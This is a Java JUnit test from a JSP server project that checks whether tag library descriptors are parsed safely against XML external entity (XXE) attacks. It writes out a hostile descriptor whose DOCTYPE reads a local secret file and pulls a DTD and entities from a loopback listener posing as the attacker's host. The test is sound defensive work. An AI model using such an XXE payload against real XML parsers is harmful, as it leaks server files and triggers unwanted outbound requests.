package dev.sluice.jsp;

import static dev.sluice.jsp.JspServer.body;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * XXE in a tag library descriptor (issue 21): Jasper reads TLDs with external entities blocked (its
 * XML_BLOCK_EXTERNAL default, which the JSP module keeps). A TLD whose DOCTYPE names an external entity, an external
 * DTD and a parameter entity on an attacker's host and a local secret file opens no connection and shows no secret;
 * the webapp's other pages still work. The attacker is a loopback listener that never accepts: a fetch would leave
 * a connection in its backlog (DescriptorXxeTest in the servlet adapter does the same for web.xml).
 */
class TldXxeTest {
    @TempDir
    Path dir;

    @Test
    void hostileTldFetchesNothingAndTheWebappStillServes() throws Exception {
        Path secret = dir.resolve("secret.txt");
        Files.writeString(secret, "s3cr3t-marker");
        try (ServerSocketChannel attacker = ServerSocketChannel.open()
                .bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 50)) {
            attacker.configureBlocking(false);
            String url = "http://127.0.0.1:" + attacker.socket().getLocalPort();
            Path app = JspServer.testWebapp(dir.resolve("app"), false);
            Files.writeString(app.resolve("WEB-INF/tlds/evil.tld"), """
                    <?xml version="1.0" encoding="UTF-8"?>
                    <!DOCTYPE taglib SYSTEM "%1$s/taglib.dtd" [
                      <!ENTITY file SYSTEM "%2$s">
                      <!ENTITY net SYSTEM "%1$s/entity">
                      <!ENTITY %% remote SYSTEM "%1$s/remote.dtd">
                      %%remote;
                    ]>
                    <taglib xmlns="https://jakarta.ee/xml/ns/jakartaee" version="4.0">
                      <tlib-version>1.0</tlib-version>
                      <short-name>evil&file;&net;</short-name>
                      <uri>urn:sluice:evil</uri>
                      <tag><name>greet</name><tag-class>dev.sluice.jsp.testapp.GreetTag</tag-class>
                        <body-content>empty</body-content>
                        <attribute><name>name</name><required>true</required></attribute></tag>
                    </taglib>
                    """.formatted(url, secret.toUri()));
            Files.writeString(app.resolve("evil.jsp"), "<%@ page contentType=\"text/plain;charset=UTF-8\" %>"
                    + "<%@ taglib prefix=\"e\" uri=\"urn:sluice:evil\" %><e:greet name=\"x\"/>");
            try (JspServer server = new JspServer(dir.resolve("work"), List.of(new JspModule()))) {
                String deployed;
                try {
                    deployed = server.container().deploy(app);
                } catch (IOException refused) {
                    // refusing the webapp is an allowed outcome, with a one-line reason
                    assertFalse(refused.getMessage().contains("\n"), refused.getMessage());
                    assertNull(attacker.accept(), "a TLD entity was fetched");
                    return;
                }
                assertEquals("/app", deployed);
                String evil = server.get("/app/evil.jsp");
                assertFalse(evil.contains("s3cr3t-marker"), evil);
                String el = server.get("/app/el.jsp?name=Ada");
                assertTrue(el.startsWith("HTTP/1.1 200 OK\r\n"), el);
                assertEquals("hello Ada, 42, true, scriptlet\n", body(el));
                assertNull(attacker.accept(), "a TLD entity was fetched");
            }
        }
    }
}
